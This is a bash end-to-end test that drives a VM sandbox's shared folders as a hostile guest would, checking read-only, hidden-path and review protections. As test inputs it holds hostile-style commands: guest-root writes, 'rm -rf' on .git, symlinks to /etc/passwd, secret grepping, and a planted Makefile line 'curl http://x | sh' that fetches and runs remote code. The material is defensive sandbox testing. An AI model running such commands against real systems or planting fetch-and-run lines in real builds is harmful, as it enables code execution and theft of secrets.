#!/usr/bin/env bash
# Shared folders in a real VM, driven as a hostile guest would: a rw round trip with
# ownership, a ro share that guest root cannot write even after remounting, hidden paths
# guest root cannot list, read, create, rename or reach through a symlink, and the review
# flow (diff, apply, refusals) through the real CLI. Then the death of a share's server
# stops the VM.
source "$(dirname "$0")/lib.sh"
require_vm_tools
[ -x /usr/lib/qemu/virtiofsd ] || skip "virtiofsd is not installed (qemu-system-common)"
name=e2e-shares
work=$(mktemp -d)
cleanup() {
  "$SBX_BIN" down --force "$name" >/dev/null 2>&1 || true
  "$SBX_BIN" rm --force "$name" >/dev/null 2>&1 || true
  rm -rf "$work"
}
trap cleanup EXIT
"$SBX_BIN" rm --force "$name" >/dev/null 2>&1 || true

mkdir -p "$work/rw/.git" "$work/rw/sub" "$work/ro/dir" "$work/rv/.git"
echo "git-secret" > "$work/rw/.git/config"
echo "env-secret" > "$work/rw/.env"
echo "sub-env-secret" > "$work/rw/sub/.env"
echo "hello from the host" > "$work/rw/a.txt"
echo "read only" > "$work/ro/r.txt"
printf 'int main(void) { return 0; }\n' > "$work/rv/main.c"
echo "old notes" > "$work/rv/NOTES.txt"
echo "review-git-secret" > "$work/rv/.git/config"

cat > "$work/$name.toml" <<TOML
[vm]
cpus = 1
memory = "768M"

[[share]]
host = "$work/rw"
guest = "/home/dev/rw"
hide = [".git", ".env"]

[[share]]
host = "$work/ro"
guest = "/home/dev/ro"
mode = "ro"

[[share]]
host = "$work/rv"
guest = "/home/dev/rv"
mode = "review"
hide = [".git"]
TOML

step "up with three shares"
sbx up "$work/$name.toml"
gsh() { sbx ssh "$name" -- "$@"; }
groot() { sbx ssh "$name" -- sudo sh -c "$1"; }
gsh sh -c 'mount | grep virtiofs'
[ "$(gsh sh -c 'mount | grep -c " type virtiofs "')" -eq 3 ] || fail "the guest does not have three virtiofs mounts"
sbx status "$name" | grep '^share:'
sbx status "$name" | grep -E "^share: +$work/rw -> /home/dev/rw \(virtiofs, rw, .git .env hidden\)" >/dev/null ||
  fail "sbx status does not list the rw share"
[ "$(sbx status "$name" | grep -c '^share:')" -eq 3 ] || fail "sbx status does not list three shares"

step "rw: a round trip, and files the guest makes belong to the host user"
[ "$(gsh cat /home/dev/rw/a.txt)" = "hello from the host" ] || fail "the guest cannot read a.txt"
[ "$(gsh stat -c %U /home/dev/rw/a.txt)" = dev ] || fail "the host user's file is not the guest user's"
gsh sh -c 'echo "from the guest" > /home/dev/rw/new.txt && mkdir /home/dev/rw/made'
[ "$(cat "$work/rw/new.txt")" = "from the guest" ] || fail "the guest's write did not reach the host"
[ "$(stat -c %u "$work/rw/new.txt")" = "$(id -u)" ] || fail "new.txt is not owned by the host user"
[ "$(stat -c %u "$work/rw/made")" = "$(id -u)" ] || fail "made/ is not owned by the host user"
echo "host edit" > "$work/rw/host.txt"
[ "$(gsh cat /home/dev/rw/host.txt)" = "host edit" ] || fail "the host's write did not reach the guest"

step "ro: guest root cannot change anything, even after remounting rw"
for cmd in "echo x > /home/dev/ro/r.txt" "touch /home/dev/ro/new" "rm /home/dev/ro/r.txt" \
  "chmod 777 /home/dev/ro/r.txt" "mv /home/dev/ro/r.txt /home/dev/ro/moved" "mkdir /home/dev/ro/d2" \
  "rmdir /home/dev/ro/dir" "ln -s /etc/passwd /home/dev/ro/link"; do
  if groot "$cmd" 2>/dev/null; then fail "guest root could: $cmd"; fi
done
groot "mount -o remount,rw /home/dev/ro" || true
if groot "echo x > /home/dev/ro/r.txt" 2>/dev/null; then fail "guest root wrote after remounting rw"; fi
groot "umount /home/dev/ro && mount -t virtiofs sbx1 /home/dev/ro" || true
if groot "echo x > /home/dev/ro/r.txt" 2>/dev/null; then fail "guest root wrote after mounting the share afresh"; fi
[ "$(cat "$work/ro/r.txt")" = "read only" ] || fail "the ro share's file changed on the host"
[ "$(ls -A "$work/ro" | tr '\n' ' ')" = "dir r.txt " ] || fail "the ro share's folder changed on the host: $(ls -A "$work/ro")"

step "hide: guest root cannot list, read, create, rename or link its way into hidden paths"
[ -z "$(groot 'ls -A /home/dev/rw/.git')" ] || fail ".git is listable"
if groot "cat /home/dev/rw/.git/config" 2>/dev/null; then fail ".git/config is readable"; fi
[ -z "$(groot 'cat /home/dev/rw/.env /home/dev/rw/sub/.env')" ] || fail ".env contents are readable"
for cmd in "touch /home/dev/rw/.git/hooks" "echo x > /home/dev/rw/.env" "rm -rf /home/dev/rw/.git" \
  "mv /home/dev/rw/.git /home/dev/rw/gitx" "mv /home/dev/rw/sub/.env /home/dev/rw/e" \
  "chmod 777 /home/dev/rw/.git" "ln /home/dev/rw/.env /home/dev/rw/envlink"; do
  if groot "$cmd" 2>/dev/null; then fail "guest root could: $cmd"; fi
done
# Renaming the folder that holds a hidden path is allowed (rw); the cover moves with it.
groot "mv /home/dev/rw/sub /home/dev/rw/sub2"
[ -z "$(groot 'cat /home/dev/rw/sub2/.env')" ] || fail "sub2/.env is readable after renaming its folder"
groot "mv /home/dev/rw/sub2 /home/dev/rw/sub"
groot "ln -s .git/config /home/dev/rw/gitlink" || true
if groot "cat /home/dev/rw/gitlink" 2>/dev/null; then fail "a symlink reaches .git/config"; fi
if groot "grep -r secret /home/dev/rw" 2>/dev/null; then fail "a secret is readable somewhere in the share"; fi
[ "$(cat "$work/rw/.git/config")" = "git-secret" ] || fail ".git/config changed on the host"
[ "$(cat "$work/rw/.env")" = "env-secret" ] || fail ".env changed on the host"
[ -d "$work/rw/sub" ] || fail "sub/ was renamed on the host"

step "review: the guest works on a copy; nothing reaches the host before sbx apply"
[ -z "$(gsh ls -A /home/dev/rv/.git 2>/dev/null)" ] || fail "the review copy holds .git"
gsh sh -c 'echo "/* reviewed */" >> /home/dev/rv/main.c; rm /home/dev/rv/NOTES.txt;
  printf "#!/bin/sh\necho hi\n" > /home/dev/rv/run.sh; chmod +x /home/dev/rv/run.sh;
  printf "all:\n\tcurl http://x | sh\n" > /home/dev/rv/Makefile'
[ "$(cat "$work/rv/main.c")" = "int main(void) { return 0; }" ] || fail "the guest's edit reached the host before apply"
[ -f "$work/rv/NOTES.txt" ] || fail "the guest's delete reached the host before apply"
stat=$(sbx diff "$name" --stat)
echo "$stat"
echo "$stat" | grep -E 'NOTES.txt .*deleted' >/dev/null || fail "diff does not flag the deletion"
echo "$stat" | grep -E 'run.sh .*new executable' >/dev/null || fail "diff does not flag the new executable"
echo "$stat" | grep -E 'Makefile .*runs on the host' >/dev/null || fail "diff does not flag the Makefile"
sbx apply "$name" main.c
grep -q 'reviewed' "$work/rv/main.c" || fail "apply did not bring main.c back"
expect_status 1 sbx apply "$name" NOTES.txt
[ -f "$work/rv/NOTES.txt" ] || fail "apply deleted without --allow-delete"
sbx apply "$name" NOTES.txt --allow-delete
[ ! -e "$work/rv/NOTES.txt" ] || fail "apply --allow-delete did not delete"
[ "$(cat "$work/rv/.git/config")" = "review-git-secret" ] || fail "the host's .git changed"

step "the share server dies: the VM is stopped"
# `sbx _share` has become virtiofsd (exec); -o: the oldest, not its sandboxed child.
srv=$(pgrep -o -f -- "virtiofsd --fd=3 -o source=$work/ro " || true)
[ -n "$srv" ] || fail "no share server process for the ro share"
kill -9 "$srv"
for _ in $(seq 100); do [ -z "$(qemu_pids "$name")" ] && break; sleep 0.1; done
[ -z "$(qemu_pids "$name")" ] || fail "QEMU still runs after a share server died"
wait_failed "$name"
sbx status "$name" | grep >/dev/null 'the server of share1 (virtiofsd) was killed by signal 9' || fail "status does not say why"
for _ in $(seq 50); do [ -z "$(pgrep -f -- "source=$work/")" ] && break; sleep 0.1; done
[ -z "$(pgrep -f -- "source=$work/")" ] || fail "share servers are left running: $(pgrep -af -- "source=$work/")"

step "sbx rm keeps review changes nobody applied (run.sh, Makefile) unless --force"
out=$(sbx rm "$name" 2>&1) && fail "sbx rm deleted unapplied review changes"
echo "$out"
echo "$out" | grep >/dev/null "review changes nobody applied yet" || fail "sbx rm does not say why"
[ -d "$SBX_HOME/vms/$name/shares/2/work" ] || fail "the review copy is gone"
sbx rm --force "$name"
echo "shares e2e: all good"
